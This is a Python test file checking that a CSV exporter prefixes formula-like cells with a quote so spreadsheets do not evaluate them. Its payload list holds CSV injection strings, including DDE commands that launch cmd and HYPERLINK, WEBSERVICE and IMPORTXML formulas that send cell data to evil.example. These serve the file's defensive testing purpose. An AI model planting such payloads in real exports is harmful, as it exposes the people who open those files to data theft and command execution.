"""Whatever a sender wrote, no cell of a CSV begins a formula; and nothing else of it changes."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from llmtrail.cli.csv_cells import is_csv, without_formulas

# As lists of testers have them (OWASP, PortSwigger, published reports).
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=DDE("cmd";"/C calc";"!A0A0")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=1+1";=1+1',
    '=1+1,"=1+1',
    "=1+1\n=1+1",
]
# Cells as ClickHouse writes them: texts between quotes, all else without.
CELLS = st.one_of(
    st.text(max_size=12), st.sampled_from([*PAYLOADS, "", '"', '""', '"=1', "plain", "a,b", "'=1"]), st.integers()
)


def written(rows: list[list[str | int]]) -> bytes:
    lines = [
        ",".join(str(one) if isinstance(one, int) else '"' + one.replace('"', '""') + '"' for one in row)
        for row in rows
    ]
    return "".join(f"{line}\n" for line in lines).encode()


def guarded(data: bytes, ends: list[int]) -> bytes:
    pieces = [data[start:end] for start, end in zip([0, *ends], [*ends, len(data)], strict=True)]
    return b"".join(without_formulas(pieces))


@given(
    rows=st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=5),
    ends=st.lists(st.integers(0, 60), max_size=6).map(sorted),
)
@example(rows=[["", "=1", '"', "=2", -3]], ends=[1, 2, 3, 4, 5])
def test_a_text_that_would_be_a_formula_is_quoted_and_all_else_stays(
    rows: list[list[str | int]], ends: list[int]
) -> None:
    starts = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
    expected: list[list[str | int]] = [
        [f"'{one}" if isinstance(one, str) and one.startswith(starts) else one for one in row] for row in rows
    ]
    data = written(rows)
    assert guarded(data, [min(end, len(data)) for end in ends]) == written(expected)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_spreadsheet_reads_no_formula(payload: str) -> None:
    data = written([["name", payload], [payload, -5]])
    text = guarded(data, []).decode()
    found = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert found == [["name", f"'{payload}"], [f"'{payload}", "-5"]]


def test_csv_is_known_by_its_names() -> None:
    assert all(map(is_csv, ["CSV", "csv", "CSVWithNames", "CSVWithNamesAndTypes"]))
    assert not any(map(is_csv, ["TSV", "TabSeparated", "JSONEachRow", "CustomSeparated", "PrettyCompact"]))
